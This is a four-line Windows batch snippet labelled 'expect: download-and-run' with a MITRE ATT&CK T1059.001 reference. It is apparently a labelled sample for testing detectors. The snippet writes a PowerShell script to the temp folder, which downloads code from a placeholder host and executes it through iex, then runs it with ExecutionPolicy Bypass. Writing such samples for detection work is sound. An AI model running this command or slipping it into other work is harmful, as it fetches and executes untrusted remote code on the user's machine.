@rem expect: download-and-run | source: MITRE ATT&CK T1059.001
echo $u = 'http://files.example.invalid/s'> %TEMP%\s.ps1
echo iex (New-Object Net.WebClient).DownloadString($u)>> %TEMP%\s.ps1
powershell -ExecutionPolicy Bypass -File %TEMP%\s.ps1
